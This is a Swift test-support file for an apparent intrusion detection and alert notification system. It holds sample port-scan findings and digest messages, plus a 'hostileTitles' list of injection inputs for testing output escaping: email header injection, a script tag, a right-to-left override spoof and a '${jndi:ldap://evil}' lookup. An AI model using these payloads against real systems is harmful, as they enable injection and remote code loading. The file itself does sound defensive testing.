import Detect
import Identity
import Incidents
import Notify
import TestKit
import Testing

struct Unexpected: Error {}

enum Samples {
    /// Sunday, 2026-03-01T12:00:00Z.
    static let noon: Int64 = 1_772_366_400_000
    static func tenant(_ name: String = "acme") throws -> TenantID { try #require(TenantID(name)) }

    static func finding(
        _ id: String, rule: String = "port-scan-vertical", title: String = "Port scan of one host",
        tactics: [String] = ["TA0043"], attackers: [String] = ["198.51.100.7"], victims: [String] = ["192.0.2.5"],
        ports: [UInt16] = [22, 80], severity: Severity = .high, update: Int = 0
    ) -> Finding {
        func entities(_ values: [String], _ role: FindingEntity.Role) -> [FindingEntity] {
            values.map { FindingEntity(type: $0.contains(":") ? "ipv6-addr" : "ipv4-addr", role: role, value: $0) }
        }
        return Finding(
            id: String(repeating: "0", count: max(0, 32 - id.utf8.count)) + id, rule: rule, title: title,
            severity: severity, tactics: tactics, techniques: ["T1046"],
            entities: entities(attackers, .attacker) + entities(victims, .victim), ports: ports, start: noon,
            end: noon + 90_000, windowStart: noon,
            evidence: Evidence(
                observed: 1_200.5, threshold: 100, unit: "ports", flows: 1_200, packets: 1_300, octets: 72_000),
            update: update)
    }
    static func brief(
        _ id: String, rule: String = "port-scan-vertical", title: String = "Port scan of one host",
        severity: Severity = .high
    ) -> IncidentBrief {
        IncidentBrief(Incident(opening: finding(id, rule: rule, title: title, severity: severity)))
    }
    static func news(
        _ id: String, _ tenant: String = "acme", rule: String = "port-scan-vertical", severity: Severity = .high,
        change: Change = .opened, tags: Set<String> = [], seconds: Int64 = 0
    ) throws -> News {
        News(
            tenant: try Self.tenant(tenant), incident: brief(id, rule: rule, severity: severity), change: change,
            tags: tags, at: noon + seconds * 1_000)
    }
    static func message(_ brief: IncidentBrief, change: Change = .opened) throws -> Message {
        Message(
            id: "msg_0123456789abcdef0123456789abcdef", tenant: try tenant(), at: noon, body: .single(brief, change))
    }
    static func message(gathering count: Int, title: String = "Port scan of one host") throws -> Message {
        var router = NewsRouter(
            routes: [Route("all", action: .deliver(to: ["c"], .digest(minutes: 10)))], owners: ["c": nil])
        for index in 0..<count {
            var news = try Samples.news("\(index)", seconds: 1)
            news.incident.title = title
            let outcomes = router.take(news)
            if let full = outcomes.lazy.compactMap(\.delivery).first { return full.message }
        }
        return try #require(router.advance(to: noon + 600_000).lazy.compactMap(\.delivery).first).message
    }
}

extension NewsRouter.Outcome {
    var delivery: Delivery? { if case .deliver(let delivery) = self { delivery } else { nil } }
}

/// Titles that try to be something else than a title.
let hostileTitles = [
    "a\r\nBcc: everyone@example.org", "x|y=z\\", "</li><script>alert(1)</script>", "<!channel> & <https://evil|ok>",
    "[click](https://evil)", "\"] [fake@1 a=\"b\"]", "=?utf-8?B?SGk=?=", "Überfall \u{202E}txt.exe \u{1F4A3}",
    String(repeating: "\u{0301}", count: 20_000), String(repeating: "|", count: 10_000), "\u{0}\u{1B}[2J", "",
    "%s%n{{7*7}}${jndi:ldap://evil}",
]
